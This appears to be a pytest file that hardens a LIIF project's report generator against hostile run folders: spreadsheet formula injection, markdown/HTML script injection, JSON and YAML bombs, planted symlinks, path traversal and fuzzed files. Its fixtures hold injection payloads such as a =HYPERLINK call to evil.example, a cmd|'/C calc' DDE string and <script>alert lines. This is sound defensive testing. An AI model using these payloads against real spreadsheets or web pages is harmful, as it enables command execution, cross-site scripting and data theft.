"""The report on run folders from someone else (issue 21), as attacks: every name and error text a folder
holds is text in report.md and report.csv, never markup or a spreadsheet formula; a metrics.json that
cannot be trusted makes its job an unreadable one, listed with the reason, and the rest is written; the
report reads nothing unbounded and writes nothing outside its folder."""
import csv
import json
import math
import os
import random
import re
import sys

import pytest
from markdown_it import MarkdownIt

from conftest import compose, run_task_with_overrides, tree_state
from hostile_files import billion_laughs, change_bytes
from liif import report
from liif.errors import LiifError
from liif.io import durable

from .test_report import make_job, metrics

GOOD_LINE = "| LIIF | torch | 2 | ours | 34.65 ± 0.07 | 28.95 ± 0.07 |"  # the two seeds of good_runs
# what the report's own markdown renders to: no tag from a run folder (<script>, <img>, <a>, <b>) gets there
REPORT_TAGS = {"h1", "h2", "p", "strong", "em", "code", "pre", "ul", "li", "blockquote", "br",
               "table", "thead", "tbody", "tr", "th", "td"}


def good_runs(sweep):
    make_job(sweep, "0_ablation_liif_torch", metrics("LIIF", seed=0, psnr={2: 34.60, 4: 28.90}))
    make_job(sweep, "1_ablation_liif_torch", metrics("LIIF", seed=1, psnr={2: 34.70, 4: 29.00}))


def bad_job(sweep, name, text):
    """A job folder whose metrics.json holds `text` (str or bytes) as is."""
    job = make_job(sweep, name, None)
    (job / "metrics.json").write_bytes(text if isinstance(text, bytes) else text.encode())
    return job


def markdown():
    """A CommonMark renderer with GitHub's tables that passes raw HTML through, as many viewers do."""
    return MarkdownIt("commonmark", {"html": True}).enable("table")


def rendered_tags(md):
    return set(re.findall(r"<([A-Za-z][A-Za-z0-9]*)", markdown().render(md)))


def headings(md):
    tokens = markdown().parse(md)
    return [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]


def unescaped_pipes(line):
    return len(re.findall(r"(?<!\\)(?:\\\\)*\|", line))


def assert_tables_keep_their_columns(md):
    """Every line of a markdown table has the pipes of its header: no cell was split or merged."""
    table = []
    for line in md.splitlines() + [""]:
        if line.startswith("|"):
            table.append(unescaped_pipes(line))
        elif table:
            assert len(set(table)) == 1, table
            table = []


def csv_rows(folder):
    with open(folder / "report.csv", newline="") as f:
        return list(csv.DictReader(f))


def assert_no_formula_cells(rows):
    """No cell a spreadsheet would evaluate: one starting with = + - @ (or a tab or line break) is a number."""
    for row in rows:
        assert None not in row and None not in row.values(), row  # a row split in two by a line break
        for value in row.values():
            if value[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
                assert re.fullmatch(r"-?[0-9.e+-]+", value), f"a formula cell: {value!r}"  # -0.07 is a number


# ---- formulas and markup ----------------------------------------------------------------------------------------
FORMULAS = {"run_name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "model": "+1+cmd|' /C calc'!A0",
            "framework": "@SUM(1,1)", "dataset": "-2+3", "eval_type": "\t=1", "lr_source": "\r=1"}


def test_formula_like_values_are_text_in_report_csv(tmp_path):
    good_runs(tmp_path)
    m = metrics("LIIF", seed=2, psnr={2: 34.60}, run_name=FORMULAS["run_name"])
    m.update(model=FORMULAS["model"], framework=FORMULAS["framework"])
    m["records"][0].update({k: FORMULAS[k] for k in ("dataset", "eval_type", "lr_source")})
    make_job(tmp_path, "2_formulas", m)
    failed = metrics("LIIF(-c)", status="failed")
    failed["error"] = "=1+1"
    failed["paper"]["row"] = "=cmd|'/C calc'!A0"
    failed["model"] = "m\r=1+1"  # a bare CR, which csv leaves unquoted: a new row to readers
    make_job(tmp_path, "3_failed", failed)
    report.write(tmp_path, plots=False)
    rows = csv_rows(tmp_path)
    assert len(rows) == 6 and all(None not in r.values() and None not in r for r in rows)  # 2 x 2 + 1 + 1
    assert_no_formula_cells(rows)
    mine = next(r for r in rows if r["run_dir"].endswith("2_formulas"))
    for field, value in FORMULAS.items():
        assert mine[field] == "'" + value.replace("\r", "\n")  # the value kept, as text
    assert next(r for r in rows if r["run_dir"].endswith("3_failed"))["row"] == "'=cmd|'/C calc'!A0"
    deltas = [r["delta"] for r in rows if r["delta"]]
    assert "-0.07" in [f"{float(d):.2f}" for d in deltas] and all(not d.startswith("'") for d in deltas)


INJECTED_ERROR = ("RuntimeError: boom <img src=x onerror=alert(1)>\n```\n# Owned\n<script>alert(1)</script>\n"
                  "````\n## Owned too\n[click](javascript:alert(2))")


def test_markup_in_names_and_error_texts_is_text_in_report_md(tmp_path):
    good_runs(tmp_path)
    failed = metrics("LIIF</td></tr><script>alert(3)</script>", status="failed", run_name="[x](javascript:alert(4))")
    failed["error"] = INJECTED_ERROR
    failed["framework"] = "torch | extra | cells"
    make_job(tmp_path, "2_failed", failed)
    weird = metrics("![pixel](http://tracker.example/p.png)", table="7\n# Owned table", psnr={2: 30.0})
    weird["records"][0]["dataset"] = "<b>set</b> | `x` \\| y"
    make_job(tmp_path, "3_x\n# Owned folder <i>", weird)
    untagged = metrics("x", status="failed\n# Owned status <script>")
    untagged["paper"] = None
    make_job(tmp_path, "4_untagged", untagged)
    report.write(tmp_path, plots=False)
    md = (tmp_path / "report.md").read_text()
    assert rendered_tags(md) <= REPORT_TAGS, rendered_tags(md) - REPORT_TAGS
    assert not [h for h in headings(md) if h.startswith("Owned")], headings(md)
    assert_tables_keep_their_columns(md)
    # the error's detail is shown once, whole, as code: its ``` and ```` lines do not close the block
    blocks = [t.content for t in markdown().parse(md) if t.type == "fence"]
    assert blocks == ["```\n# Owned\n<script>alert(1)</script>\n````\n## Owned too\n[click](javascript:alert(2))\n"]
    assert GOOD_LINE in md and "| 1_ablation_liif_torch | ok |" in md  # the rest of the report


# ---- records that cannot be trusted -----------------------------------------------------------------------------
UNREADABLE = {
    "nested 100000 deep": ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    "nested in a field": ('{"status": "ok", "records": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply"),
    "a file of 9 MB": ('{"status": "ok", "x": "' + "a" * (9 << 20) + '"}', "over 8.0 MB"),
    "an int of 5000 digits": ('{"status": "ok", "seed": ' + "9" * 5000 + "}", "an integer of 5000 digits"),
    "too many records": (json.dumps({"status": "ok", "records": [{"scale": s, "psnr": 1.0} for s in range(1001)]}),
                         "1001 test records, over the 1000"),
    "not UTF-8": (b'{"status": "ok", "model": "\xff\xfe"}', "utf-8"),
    "not an object": ("[1, 2]", "not a JSON object"),
}


@pytest.mark.parametrize("case", UNREADABLE, ids=list(UNREADABLE))
def test_a_record_that_cannot_be_trusted_is_an_unreadable_job_and_the_rest_is_written(tmp_path, case):
    text, reason = UNREADABLE[case]
    good_runs(tmp_path)
    bad_job(tmp_path, "2_bad", text)
    report.write(tmp_path, plots=False)
    md = (tmp_path / "report.md").read_text()
    listed = [line for line in md.splitlines() if line.startswith(f"- FAILED: {tmp_path / '2_bad'} ")]
    assert len(listed) == 1 and "(unreadable metrics.json: " in listed[0] and reason in listed[0], listed
    assert "| 2_bad | unreadable |" in md and GOOD_LINE in md
    assert [r["status"] for r in csv_rows(tmp_path)].count("unreadable") == 1


def test_nesting_is_refused_whatever_the_recursion_limit(tmp_path):
    """Jittor raises the interpreter's recursion limit to 1e6 when imported: json.loads would then
    recurse into 4M levels of '[' (8 MB) and overflow the C stack (a crash, not an error). The
    nesting is measured before parsing, so the limit does not matter."""
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(1_000_000)
    try:
        good_runs(tmp_path)
        bad_job(tmp_path, "2_bad", "[" * 4_000_000 + "]" * 4_000_000)
        report.write(tmp_path, plots=False)
    finally:
        sys.setrecursionlimit(limit)
    md = (tmp_path / "report.md").read_text()
    assert "unreadable metrics.json: nested too deeply" in md and GOOD_LINE in md


ODD_NUMBERS = {  # (where, JSON text): numbers no sum, mean or format can use, and wrong types
    "psnr NaN": (("records", 0, "psnr"), "NaN"),
    "psnr Infinity": (("records", 0, "psnr"), "Infinity"),
    "psnr 1e308*10": (("records", 0, "psnr"), "1e309"),
    "psnr of 400 digits": (("records", 0, "psnr"), "1" + "0" * 400),
    "scale -Infinity": (("records", 0, "scale"), "-Infinity"),
    "scale 1e999 as text": (("records", 0, "scale"), '"1e999"'),
    "cell clip Infinity": (("records", 0, "cell_clip"), "Infinity"),
    "wall time of 400 digits": (("wall_time_s",), "1" + "0" * 400),
    "best PSNR a string": (("train", "best_val_psnr"), '"high"'),
    "epochs markup": (("train", "epochs"), '"<b>"'),
    "history loss NaN": (("train", "history", 0, "loss"), "NaN"),
    "table of 400 digits": (("paper", "table"), "1" + "0" * 400),
}


@pytest.mark.parametrize("case", ODD_NUMBERS, ids=list(ODD_NUMBERS))
def test_odd_numbers_and_types_are_dropped_never_fatal(tmp_path, case):
    """The field is dropped, as one of the wrong JSON type (liif.run.record): its cell shows –."""
    where, raw = ODD_NUMBERS[case]
    good_runs(tmp_path)
    odd = _set(metrics("LIIF(-c)", seed=2), where, "@odd@")
    bad_job(tmp_path, "2_odd", json.dumps(odd).replace('"@odd@"', raw))
    report.write(tmp_path, plots=False)
    md = (tmp_path / "report.md").read_text()
    assert "| 2_odd | ok |" in md and GOOD_LINE in md
    rows = csv_rows(tmp_path)
    assert_no_formula_cells(rows)
    numeric = ("seed", "psnr", "psnr_bicubic", "ssim", "n_images", "paper_psnr", "delta", "wall_time_s")
    numbers = [row[k] for row in rows for k in numeric if row[k]]
    assert all(math.isfinite(float(v)) for v in numbers), numbers


def test_two_seeds_of_huge_finite_psnrs_give_a_number_not_an_overflow(tmp_path):
    """(1e200 - mean) ** 2 raises OverflowError; the sample std of these is inf, shown as such."""
    make_job(tmp_path, "0_a", metrics("LIIF", seed=0, psnr={2: 1e200}))
    make_job(tmp_path, "1_b", metrics("LIIF", seed=1, psnr={2: 1e100}))
    report.write(tmp_path, plots=False)
    assert "| LIIF | torch | 2 | ours | " in (tmp_path / "report.md").read_text()


# ---- the folder itself --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("overrides", [billion_laughs(), "[" * 50_000 + "]" * 50_000, "- x=1\n" * 20_000, "\xff: [",
                                       "- {a: 1}\n- [b]\n- 3\n"],
                         ids=["billion laughs", "nested 50000 deep", "over 64 KB", "not yaml", "not strings"])
def test_an_overrides_yaml_is_read_within_bounds(tmp_path, overrides):
    """Hydra's overrides.yaml, the one other file the report reads: a YAML alias bomb parses in a few
    KB and its str() is 9**9 'lol's; only strings are kept, from at most 64 KB."""
    good_runs(tmp_path)
    job = make_job(tmp_path, "2_bomb", metrics("LIIF(-c)"))
    (job / ".hydra" / "overrides.yaml").write_text(overrides)
    assert report.read_run(str(job)).overrides == []
    report.write(tmp_path, plots=False)
    assert "| 2_bomb | ok |" in (tmp_path / "report.md").read_text()


def test_names_that_are_not_utf8_are_written_as_escapes(tmp_path):
    good_runs(tmp_path)
    job = make_job(tmp_path, "2_plain", None)
    os.rename(job, os.fsencode(tmp_path) + b"/2_\xff\xfe")  # a folder name no UTF-8 text holds
    (tmp_path / "3_lone").mkdir()
    (tmp_path / "3_lone" / "metrics.json").write_text('{"status": "ok", "run_name": "\\ud800", "model": "\\udcff"}')
    report.write(tmp_path, plots=False)
    md = (tmp_path / "report.md").read_text()
    assert "| 2_\\udcff\\udcfe | missing |" in md and "| 3_lone | ok |" in md and GOOD_LINE in md


def test_report_files_planted_in_the_folder_are_replaced_never_followed(tmp_path):
    """A sweep folder from someone else may hold report.md as a link to a file of yours: the report
    replaces the link; report.csv as a folder: one line, through task=report."""
    sweep = tmp_path / "sweep"
    good_runs(sweep)
    victim = tmp_path / "victim.txt"
    victim.write_text("mine")
    os.symlink(victim, sweep / "report.md")
    os.symlink(victim, sweep / "report.csv")
    report.write(sweep, plots=False)
    assert victim.read_text() == "mine" and not os.path.islink(sweep / "report.md")
    assert GOOD_LINE in (sweep / "report.md").read_text()
    os.remove(sweep / "report.csv")
    (sweep / "report.csv").mkdir()
    status, err = run_task_with_overrides(compose("task=report"), f"dir={sweep}", f"output_dir={tmp_path / 'run'}")
    assert status == 2 and len(err.strip().splitlines()) == 1 and "report.csv" in err, err


def test_an_out_folder_that_cannot_be_made_is_one_line(tmp_path, capsys):
    good_runs(tmp_path / "sweep")
    assert report.cli([str(tmp_path / "sweep"), "--out", str(tmp_path / ("x" * 300)), "--no-plots"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("error: cannot create the report's folder ") and "too long" in err[0]


@pytest.mark.slow
def test_plots_of_hostile_names_stay_in_the_folder_and_are_drawn(tmp_path, caplog):
    """A table tag "/../../escaped" with a folder psnr_vs_scale_ planted beside the jobs aimed the plot two
    folders up; a row "$\\frac{$" failed the plots' legends (matplotlib's TeX); scales that are text or
    not positive, and a name of a megabyte, are not drawn or are cut."""
    sweep = tmp_path / "a" / "b" / "sweep"
    good_runs(sweep)
    (sweep / "psnr_vs_scale_").mkdir()
    make_job(sweep, "2_escaping", metrics("LIIF", table="/../../escaped"))
    odd = metrics("$\\frac{$" + "x" * (1 << 20), seed=3)
    odd["records"] += [{"dataset": "DIV2K", "scale": s, "psnr": 30.0} for s in ("x3", -1, 0)]
    make_job(sweep, "3_odd", odd)
    outside = {k: v for k, v in tree_state(tmp_path).items() if not k.startswith("a/b/sweep")}
    paths = report.write(sweep)
    assert {k: v for k, v in tree_state(tmp_path).items() if not k.startswith("a/b/sweep")} == outside
    assert {os.path.basename(p) for p in paths if p.endswith(".png")} == {
        "psnr_vs_scale_table3.png", "psnr_vs_scale________escaped.png", "training_curves.png"}
    assert "failed" not in caplog.text  # no plot was skipped


# ---- the fuzzer ---------------------------------------------------------------------------------------------------
JOBS = ["0_ablation_liif_torch", "1_ablation_liif_torch", "2_ablation_c_torch", "3_run"]
# the report reads metrics.json and .hydra/overrides.yaml: changes go there most often
FILES = ["metrics.json"] * 6 + [".hydra/overrides.yaml"] * 2 + ["history.csv", "config.yaml", ".hydra/config.yaml",
                                                                 ".hydra/hydra.yaml"]


def fuzz_sweep(sweep):
    """A small sweep as the runs write it: two seeds of a row, a failed job with a multi-line error, an
    untagged run; each with history.csv, config.yaml and Hydra's three files."""
    failed = metrics("LIIF(-c)", status="failed", run_name="ablation_c")
    failed["error"] = "DataLayoutError: dataset folder not found: /d/DIV2K\nexpected layout:\n/d/DIV2K/*.png"
    untagged = metrics("x", run_name="edsr_baseline_liif")
    untagged["paper"] = None
    for name, m in zip(JOBS, [metrics("LIIF", seed=0), metrics("LIIF", seed=1), failed, untagged]):
        job = make_job(sweep, name, None, overrides=(f"experiment={m['run_name']}", f"seed={m['seed']}"))
        (job / "metrics.json").write_text(json.dumps(m, indent=2) + "\n")
        (job / "history.csv").write_text("epoch,loss,lr,val_psnr,seconds\n1,0.1,0.0001,29.0,1.0\n"
                                         "2,0.05,0.0001,30.0,1.0\n")
        config = f"run_name: {m['run_name']}\nseed: {m['seed']}\nframework:\n  name: torch\ntrain:\n  epochs: 2\n"
        (job / "config.yaml").write_text(config)
        (job / ".hydra" / "config.yaml").write_text(config)
        (job / ".hydra" / "hydra.yaml").write_text("hydra:\n  job:\n    name: run\n  mode: MULTIRUN\n")


HOSTILE_VALUES = [None, True, -1, 0, 2.5, float("nan"), float("inf"), -float("inf"), 1e308, 10 ** 400,
                  "=HYPERLINK(1)", "+1", "-1", "@x", "\t=1", "x\r=1", "<script>x</script>", "```\n# Owned", "../../x",
                  "/../../x", "\ud800", "x|y", "x\\|y", "$\\frac{$", [], {}, [[[[[[]]]]]], {"a": {"b": [1, "2"]}},
                  "x" * 10_000]
# whole files put in place of one (made once: one is 8 MB)
REPLACEMENTS = [b"", b"null", b"[]", b"{}", b"[" * 100_000 + b"]" * 100_000, billion_laughs().encode(),
                b"{" + b" " * (8 << 20) + b"}", os.urandom(64)]
HOSTILE_BYTES = [b"NaN", b"1e309", b"-Infinity", b'"=cmd|x"', b"<script>", b"```\n# x\n", b"[" * 5000, b"9" * 5000,
                 b"&a [*a, *a]", b"\xff\xfe", b"\x00", b"\n#", b"{", b"}", b",", b'"']


def _json_nodes(node, path=()):
    yield path, node
    children = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, child in children:
        yield from _json_nodes(child, path + (key,))


def _set(data, path, value):
    if not path:
        return value
    parent = data
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = value
    return data


def mutate(path, op, rnd):
    """One change to the file at `path`, chosen by `op` and the seeded `rnd`."""
    if path.is_symlink() or path.is_dir():  # made a link or a folder by an earlier change
        return
    if op in ("value", "drop key", "swap type"):
        try:
            tree = json.loads(path.read_bytes() if path.is_file() else b"")
        except (ValueError, RecursionError):  # not JSON (any more): a splice instead
            return mutate(path, "splice", rnd)
        where, node = rnd.choice(list(_json_nodes(tree)))
        if op == "value":
            tree = _set(tree, where, rnd.choice(HOSTILE_VALUES))
        elif op == "drop key" and isinstance(node, dict) and node:
            del node[rnd.choice(list(node))]
        elif op == "swap type":
            swapped = list(node.values()) if isinstance(node, dict) else (
                {str(i): v for i, v in enumerate(node)} if isinstance(node, list) else [node])
            tree = _set(tree, where, swapped)
        path.write_text(json.dumps(tree, indent=rnd.choice([None, 2])))
    else:
        change_bytes(path, op, rnd, HOSTILE_BYTES, REPLACEMENTS, max_flips=8)


OPS = ["value"] * 4 + ["splice"] * 2 + ["flip", "truncate", "drop key", "swap type", "replace", "remove", "folder",
                                        "link to /dev/zero"]


FUZZ_CASES = 150


@pytest.mark.slow
def test_fuzzed_run_folders_give_a_report_or_one_error_line(tmp_path, monkeypatch):
    """Seeded, so every run tries the same cases: 1 to 4 changes to metrics.json, history.csv, config.yaml
    or .hydra/*.yaml of a small sweep, then the report. Each case: the report is written (every job listed,
    an unreadable one with its reason, no markup or formula from the folder) or one project error line;
    never another exception, and no file changed but the report's own. All failing cases are listed."""
    monkeypatch.setattr(durable, "_fsync", lambda path: None)  # durability is tested elsewhere; fsync was half the time
    failures = []
    for case in range(FUZZ_CASES):
        rnd = random.Random(case)
        changes = [(rnd.choice(JOBS), rnd.choice(FILES), rnd.choice(OPS), rnd.randrange(2 ** 32))
                   for _ in range(rnd.randint(1, 4))]
        root = tmp_path / str(case)
        fuzz_sweep(root / "sweep")
        for job, name, op, seed in changes:
            mutate(root / "sweep" / job / name, op, random.Random(seed))
        try:
            check_report_of(root)
        except Exception as e:  # every case runs; the failures are listed together
            failures.append(f"case {case} {changes}: {type(e).__name__}: {str(e)[:300]}")
    assert not failures, "\n".join(failures)


def check_report_of(root):
    sweep = root / "sweep"
    before = tree_state(root)
    try:
        report.write([str(sweep)], plots=False)
    except LiifError as e:
        assert str(e) and "\n" not in str(e)
        assert tree_state(root) == before
        return
    after = tree_state(root)
    assert {k: v for k, v in after.items() if k not in ("sweep/report.md", "sweep/report.csv")} == before
    md = (sweep / "report.md").read_text()
    assert md.startswith("# Results beside the paper\n")
    for job in JOBS:
        if (sweep / job / "metrics.json").is_file() or (sweep / job / ".hydra").is_dir():
            assert f"| {job} | " in md, f"{job} not listed"
            if f"| {job} | unreadable |" in md:
                assert f"- FAILED: {sweep / job} (unreadable metrics.json: " in md
    assert rendered_tags(md) <= REPORT_TAGS, rendered_tags(md) - REPORT_TAGS
    assert not [h for h in headings(md) if "Owned" in h], headings(md)
    assert_tables_keep_their_columns(md)
    assert_no_formula_cells(csv_rows(sweep))
